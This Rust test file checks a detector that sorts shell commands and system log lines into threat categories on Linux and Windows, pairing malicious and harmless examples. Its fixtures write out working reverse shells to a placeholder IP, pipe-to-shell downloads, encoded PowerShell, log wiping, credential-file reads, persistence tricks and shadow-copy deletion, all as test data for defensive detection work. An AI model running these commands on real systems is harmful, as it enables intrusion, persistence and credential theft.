use super::*;

fn check(cases: &[(&str, Option<Sign>)]) {
    for (command, expect) in cases {
        assert_eq!(sign_of(command), *expect, "{command}");
    }
}

#[test]
fn what_runs_foreign_programs() {
    check(&[
        (
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            Some(Sign::ReverseShell),
        ),
        ("nc -e /bin/sh 203.0.113.9 4444", Some(Sign::ReverseShell)),
        (
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
            Some(Sign::ReverseShell),
        ),
        (
            "python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.9\",1));os.dup2(s.fileno(),0)'",
            Some(Sign::ReverseShell),
        ),
        (
            "/tmp/.x/xmrig -o stratum+tcp://pool.example:3333",
            Some(Sign::Miner),
        ),
        (
            "curl -fsSL http://203.0.113.9/i.sh | sh",
            Some(Sign::DownloadRun),
        ),
        (
            "wget -q -O - http://203.0.113.9/i.sh|bash -s x",
            Some(Sign::DownloadRun),
        ),
        (
            "sh -c \"$(curl -fsSL http://203.0.113.9/i)\"",
            Some(Sign::DownloadRun),
        ),
        (
            "cd /tmp; wget http://203.0.113.9/a; chmod +x a; ./a",
            Some(Sign::DownloadRun),
        ),
        ("echo aWQK | base64 -d | bash", Some(Sign::EncodedCommand)),
        (
            "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A",
            Some(Sign::EncodedCommand),
        ),
        ("/tmp/.hidden/run", Some(Sign::RunFromTemp)),
        ("curl -s http://127.0.0.1:8080/health | sh", None),
        ("curl -s https://example.org/status.json", None),
        ("base64 -d cert.b64 > cert.pem", None),
        ("/usr/bin/python3 /srv/app/manage.py", None),
        ("nc -z db.example 5432", None),
        ("tar czf /tmp/backup.tgz /srv", None),
        ("ls /tmp/", None),
    ]);
}

#[test]
fn what_stays() {
    check(&[
        (
            "tee -a /root/.ssh/authorized_keys",
            Some(Sign::AuthorizedKeys),
        ),
        (
            "sh -c echo ssh-rsa AAAA >> /home/budi/.ssh/authorized_keys",
            Some(Sign::AuthorizedKeys),
        ),
        ("cp /tmp/job /etc/cron.d/job", Some(Sign::CronEntry)),
        ("tee /etc/cron.d/job", Some(Sign::CronEntry)),
        ("(crontab -l; echo x) | crontab -", Some(Sign::CronEntry)),
        ("tee /etc/systemd/system/x.service", Some(Sign::ServiceUnit)),
        ("tee -a /etc/ld.so.preload", Some(Sign::Preload)),
        ("insmod /root/x.ko", Some(Sign::KernelModule)),
        ("tee -a /etc/rc.local", Some(Sign::StartupFile)),
        ("cat /etc/cron.d/job", None),
        ("crontab -l", None),
        ("systemctl restart nginx", None),
        ("cat /root/.ssh/authorized_keys", None),
        ("run-parts --report /etc/cron.hourly", None),
        ("cd / && run-parts --report /etc/cron.hourly", None),
        ("command -v debian-sa1 > /dev/null && debian-sa1 1 1", None),
        (
            "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
            None,
        ),
    ]);
}

#[test]
fn what_hides_and_what_changes_files() {
    check(&[
        ("rm -rf /var/log/auth.log", Some(Sign::LogCleared)),
        ("sh -c '> /var/log/wtmp'", Some(Sign::LogCleared)),
        ("history -c", Some(Sign::HistoryCleared)),
        ("ufw disable", Some(Sign::SecurityOff)),
        ("systemctl stop auditd", Some(Sign::SecurityOff)),
        ("cat /etc/shadow", Some(Sign::CredentialRead)),
        ("chmod u+s /bin/bash", Some(Sign::Setuid)),
        ("chmod 4755 /opt/x", Some(Sign::Setuid)),
        ("tee -a /etc/sudoers", Some(Sign::SystemPath)),
        ("mv /srv/x /usr/bin/ls", Some(Sign::SystemPath)),
        ("rm -rf /home/", Some(Sign::MassDelete)),
        ("rm -rf --no-preserve-root /", Some(Sign::MassDelete)),
        ("chattr +i /etc/passwd", Some(Sign::Immutable)),
        ("chmod -R 777 /var/www", Some(Sign::OpenPermissions)),
        ("chmod 755 /srv/app/run", None),
        ("chmod 644 /etc/nginx/nginx.conf", None),
        ("rm -rf /srv/app/cache/tmp", None),
        ("rm /home/budi/note.txt", None),
        ("ufw status", None),
        ("systemctl restart rsyslog", None),
        ("tail -f /var/log/auth.log", None),
        ("cat /etc/passwd", None),
        ("less /var/log/syslog", None),
        ("gzip /var/log/old.log", None),
    ]);
}

fn meaning_of(process: &'static str, message: &'static str) -> (Option<Sign>, Option<String>) {
    let record = Record::said(process, message);
    let meaning = super::super::classify(&record);
    (meaning.sign, meaning.user.map(Cow::into_owned))
}

#[test]
fn programs_that_write_commands() {
    for (process, message, sign, user) in [
        (
            "CRON",
            "(root) CMD (curl -s http://203.0.113.9/x | sh)",
            Some(Sign::DownloadRun),
            Some("root"),
        ),
        (
            "CRON",
            "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
            None,
            Some("root"),
        ),
        (
            "crontab",
            "(budi) REPLACE (budi)",
            Some(Sign::CronEntry),
            Some("budi"),
        ),
        ("crontab", "(budi) LIST (budi)", None, Some("budi")),
        (
            "cron",
            "(*system*) RELOAD (/etc/cron.d/x)",
            Some(Sign::CronEntry),
            Some("*system*"),
        ),
        (
            "audispd",
            "type=EXECVE msg=audit(1:2): argc=3 a0=\"sh\" a1=\"-c\" a2=6375726C20687474703A2F2F782F61207C207368",
            Some(Sign::DownloadRun),
            None,
        ),
        (
            "",
            "type=PROCTITLE msg=audit(1:2): proctitle=636861747472002B69002F6574632F706173737764",
            Some(Sign::Immutable),
            None,
        ),
        (
            "",
            "type=PROCTITLE msg=audit(1:2): proctitle=6C73002D6C",
            None,
            None,
        ),
        (
            "app",
            "root@web:~# curl -s http://203.0.113.9/x.sh | bash",
            Some(Sign::DownloadRun),
            None,
        ),
        (
            "app",
            "bash: curl: command not found | see example",
            None,
            None,
        ),
        ("app", "curl | sh is a bad idea", None, None),
        ("app", "wget finished - 12 files", None, None),
        (
            "sudo",
            "budi : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys",
            Some(Sign::AuthorizedKeys),
            Some("budi"),
        ),
    ] {
        let user = user.map(str::to_owned);
        assert_eq!(meaning_of(process, message), (sign, user), "{message}");
    }
}

#[test]
fn the_same_on_windows() {
    check(&[
        (
            r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
            Some(Sign::EncodedCommand),
        ),
        (
            "$wc = New-Object System.Net.WebClient; $wc.DownloadFile('http://203.0.113.9/a.exe','b')",
            Some(Sign::DownloadRun),
        ),
        (
            r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d c:\x.exe",
            Some(Sign::StartupFile),
        ),
        (
            r"schtasks /create /sc minute /tn x /tr c:\x.exe",
            Some(Sign::CronEntry),
        ),
        (
            "vssadmin.exe delete shadows /all /quiet",
            Some(Sign::MassDelete),
        ),
        (
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            Some(Sign::SecurityOff),
        ),
        (
            r"reg.exe save HKLM\sam c:\temp\sam",
            Some(Sign::CredentialRead),
        ),
        ("schtasks /query /fo csv", None),
        ("sc query eventlog", None),
        ("Get-MpPreference", None),
        ("Invoke-WebRequest https://example.org/", None),
    ]);
}
